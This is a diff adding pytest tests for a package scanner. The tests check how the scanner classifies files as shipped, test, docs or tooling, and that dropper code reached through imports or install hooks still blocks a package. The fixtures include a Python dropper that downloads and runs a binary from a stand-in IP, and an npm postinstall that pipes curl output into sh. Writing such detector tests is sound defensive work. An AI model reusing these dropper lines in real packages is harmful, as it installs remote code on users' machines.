@@ -1,0 +1,192 @@
+"""A file's context, decided once: folders and names say test, docs, example or tooling, and
+shipped code that imports or runs a file makes it shipped whatever its folder."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from builders import gzip_bytes, tar_bytes, write, zip_bytes
+from finalexam.config import Config
+from finalexam.context import path_context, references_in
+from finalexam.exam import run_exam
+from finalexam.model import FileContext, Location, Report
+
+# a dropper: fetches a program and runs it (high behaviour wherever it sits)
+PAYLOAD = (
+    "import os, subprocess, urllib.request\n"
+    "urllib.request.urlretrieve('http://203.0.113.9/u', '/tmp/u')\n"
+    "os.chmod('/tmp/u', 0o755)\n"
+    "subprocess.Popen(['/tmp/u'])\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("path", "context"),
+    [
+        ("pkg/api.py", FileContext.SHIPPED),
+        ("pkg/tests/test_api.py", FileContext.TEST),
+        ("pkg-1.0/test/helpers.js", FileContext.TEST),
+        ("pkg/unit-tests/x.py", FileContext.TEST),
+        ("pkg/test_api.py", FileContext.TEST),
+        ("src/app.spec.ts", FileContext.TEST),
+        ("pkg-1.0/docs/conf.py", FileContext.DOCS),
+        ("usr/share/man/man1/age-keygen.1.gz", FileContext.DOCS),
+        ("README.md", FileContext.DOCS),
+        ("pkg/examples/client.py", FileContext.EXAMPLE),
+        ("pkg/tools/build.py", FileContext.TOOLING),
+        ("pkg-1.0/scripts/release.sh", FileContext.TOOLING),
+        ("pkg-1.0.data/scripts/pkg-cli", FileContext.SHIPPED),  # installed as a command
+        ("pkg-1.0/tests/setup.py", FileContext.SHIPPED),  # an installer runs it anywhere
+        ("pkg.dist-info/entry_points.txt", FileContext.SHIPPED),
+    ],
+)
+def test_path_context(path: str, context: FileContext) -> None:
+    assert path_context(path) is context
+
+
+def test_a_jar_under_tests_is_test_material_as_a_whole() -> None:
+    inner = Location(("app.tar", "app/tests/data/fixture.jar", "com/x/Key.class"))
+    assert path_context(inner) is FileContext.TEST
+
+
+def test_references_of_python_javascript_and_package_json() -> None:
+    python = references_in(
+        "pkg/__init__.py",
+        "from .tools import helper\nfrom . import docs\nimport pkg.scripts.run as r\n"
+        "from ..other import (\n  a,\n  b,\n)\n"
+        "importlib.import_module('pkg.examples.demo')\n"
+        "exec(open('pkg/docs/x.py').read())\n",
+    )
+    assert {"pkg/tools", "pkg/tools/helper", "pkg/docs", "other/a", "other"} <= python.exact
+    assert {"pkg/scripts/run", "pkg/examples/demo", "pkg/docs/x"} <= python.suffix
+    javascript = references_in(
+        "package/lib/index.js", "const t = require('../tools/t');\nimport x from './docs/y.js'\n"
+    )
+    assert {"package/tools/t", "package/lib/docs/y"} <= javascript.exact
+    manifest = {
+        "main": "lib/index.js",
+        "bin": {"cli": "./scripts/cli.js"},
+        "scripts": {"postinstall": "node scripts/setup.js", "test": "mocha test/"},
+    }
+    refs = references_in("package/package.json", json.dumps(manifest))
+    assert {"package/lib", "package/scripts/cli", "package/scripts/setup"} <= refs.exact
+    assert not any("test" in key for key in refs.exact | refs.suffix)  # dev scripts run nothing
+    config = references_in("pkg-1.0/setup.cfg", "[tool:pytest]\ntestpaths = tests/\n")
+    assert not config.exact and not config.suffix
+
+
+def _blocking(report: Report) -> dict[str, str]:
+    found = {}
+    for finding in report.findings:
+        if finding.location and finding.kind.value == "behavior" and finding.severity.rank >= 3:
+            found[finding.location.path] = str(finding.context)
+    return found
+
+
+def _wheel(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
+    members = {f"{name}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\n"}
+    members.update(files)
+    return write(tmp_path / f"{name}-1.0-py3-none-any.whl", zip_bytes(members))
+
+
+def test_a_payload_moved_into_tools_scripts_or_docs_and_imported_stays_blocking(
+    tmp_path: Path,
+) -> None:
+    for folder in ("tools", "scripts", "docs", "tests"):
+        name = f"carrier{folder}"
+        wheel = _wheel(
+            tmp_path,
+            name,
+            {
+                f"{name}/__init__.py": f"from .{folder} import loader\n",
+                f"{name}/{folder}/__init__.py": "",
+                f"{name}/{folder}/loader.py": PAYLOAD,
+            },
+        )
+        report = run_exam(wheel, Config(disable=("vulnerabilities",)))
+        assert _blocking(report) == {f"{name}/{folder}/loader.py": "shipped"}, folder
+        assert not report.verdict.passed
+
+
+def test_a_payload_reached_through_a_chain_of_imports_stays_blocking(tmp_path: Path) -> None:
+    wheel = _wheel(
+        tmp_path,
+        "chain",
+        {
+            "chain/__init__.py": "import chain.tools.first\n",
+            "chain/tools/first.py": "from chain.tools import second\n",
+            "chain/tools/second.py": PAYLOAD,
+        },
+    )
+    assert _blocking(run_exam(wheel, Config(disable=("vulnerabilities",)))) == {
+        "chain/tools/second.py": "shipped"
+    }
+
+
+def test_a_script_an_install_hook_or_setup_py_runs_stays_blocking(tmp_path: Path) -> None:
+    npm = write(
+        tmp_path / "hooked-1.0.0.tgz",
+        gzip_bytes(
+            tar_bytes(
+                {
+                    "package/package.json": json.dumps(
+                        {
+                            "name": "hooked",
+                            "version": "1.0.0",
+                            "scripts": {"postinstall": "node docs/build.js"},
+                        }
+                    ),
+                    "package/docs/build.js": (
+                        "const cp = require('child_process');\n"
+                        "cp.execSync('curl -s http://203.0.113.9/x | sh');\n"
+                    ),
+                }
+            )
+        ),
+    )
+    report = run_exam(npm, Config(disable=("vulnerabilities",)))
+    assert "package/docs/build.js" in _blocking(report)
+    assert _blocking(report)["package/docs/build.js"] == "shipped"
+    sdist = write(
+        tmp_path / "runner-1.0.tar.gz",
+        gzip_bytes(
+            tar_bytes(
+                {
+                    "runner-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: runner\nVersion: 1.0\n",
+                    "runner-1.0/setup.py": (
+                        "from setuptools import setup\n"
+                        "exec(open('scripts/prepare.py').read())\n"
+                        "setup(name='runner')\n"
+                    ),
+                    "runner-1.0/scripts/prepare.py": PAYLOAD,
+                }
+            )
+        ),
+    )
+    found = _blocking(run_exam(sdist, Config(disable=("vulnerabilities",))))
+    assert found.get("runner-1.0/scripts/prepare.py") == "shipped"
+
+
+def test_tests_docs_and_examples_nobody_runs_keep_their_findings_without_blocking(
+    tmp_path: Path,
+) -> None:
+    wheel = _wheel(
+        tmp_path,
+        "honest",
+        {
+            "honest/__init__.py": "VERSION = '1.0'\n",
+            "honest/tests/test_dl.py": PAYLOAD,
+            "honest/examples/dl.py": PAYLOAD,
+            "honest/tools/dl.py": PAYLOAD,
+        },
+    )
+    report = run_exam(wheel, Config(disable=("vulnerabilities",)))
+    assert _blocking(report) == {
+        "honest/tests/test_dl.py": "test",
+        "honest/examples/dl.py": "example",
+        "honest/tools/dl.py": "tooling",
+    }
+    assert report.verdict.passed
